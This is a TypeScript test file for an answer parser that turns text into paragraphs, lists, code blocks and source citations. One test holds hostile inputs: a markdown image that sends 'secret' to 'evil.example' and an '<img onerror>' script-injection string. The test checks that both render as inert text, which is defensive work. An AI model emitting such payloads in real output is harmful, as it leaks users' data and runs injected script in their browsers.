import { expect, test } from "vitest";
import { readAnswer } from "./answer-blocks.ts";

test("reads paragraphs, lists, code and citations", () => {
  const text =
    "Move **traffic** back [2].[?]\nAt once.\n\n1. Cordon `pool-b` [1]\n\n2. Wait\n- Tell them\n```\nkubectl [1]\n```\nDone";
  expect(readAnswer(text)).toMatchObject([
    {
      kind: "paragraph",
      lines: [
        {
          parts: [
            { kind: "text", text: "Move " },
            { kind: "strong", text: "traffic" },
            { kind: "text", text: " back. " },
            { kind: "source", number: 2 },
            { kind: "unsupported" },
          ],
        },
        { parts: [{ kind: "text", text: "At once." }] },
      ],
    },
    {
      kind: "list",
      isOrdered: true,
      start: 1,
      items: [
        {
          parts: [
            { kind: "text", text: "Cordon " },
            { kind: "code", text: "pool-b" },
            { kind: "text", text: " " },
            { kind: "source", number: 1 },
          ],
        },
        { parts: [{ kind: "text", text: "Wait" }] },
      ],
    },
    { kind: "list", isOrdered: false, start: 1, items: [{ parts: [{ kind: "text", text: "Tell them" }] }] },
    { kind: "code", text: "kubectl [1]" },
    { kind: "paragraph", lines: [{ parts: [{ kind: "text", text: "Done" }] }] },
  ]);
});

test("renders images, links and markup as text", () => {
  for (const text of [
    "![x](http://evil.example/?q=secret)",
    "[x](http://evil.example)",
    "<img src=x onerror=y>",
  ])
    expect(readAnswer(text)).toMatchObject([
      { kind: "paragraph", lines: [{ parts: [{ kind: "text", text }] }] },
    ]);
});

test("renders an incomplete answer", () => {
  expect(readAnswer("Look:\n```\nkubectl")).toMatchObject([
    { kind: "paragraph" },
    { kind: "code", text: "kubectl" },
  ]);
});

test("ends inline code at its line, and continues as text", () => {
  expect(readAnswer("Run:\n```kubectl get pods```\nThen wait [1].")).toMatchObject([
    { kind: "paragraph" },
    { kind: "code", text: "kubectl get pods" },
    { kind: "paragraph", lines: [{ parts: [{ text: "Then wait. " }, { kind: "source", number: 1 }] }] },
  ]);
});

test("splits a long answer into numbered parts without losing text", () => {
  const text = Array.from({ length: 40 }, (_, index) => `Line ${index}\n\n- item ${index}\n1) ${index}`).join(
    "\n",
  );
  const blocks = readAnswer(text);
  const words = JSON.stringify(blocks);
  for (let index = 0; index < 40; index += 1) expect(words).toContain(`Line ${index}`);
  const places = blocks.map(({ at }) => at);
  expect(new Set(places).size).toBe(places.length);
});
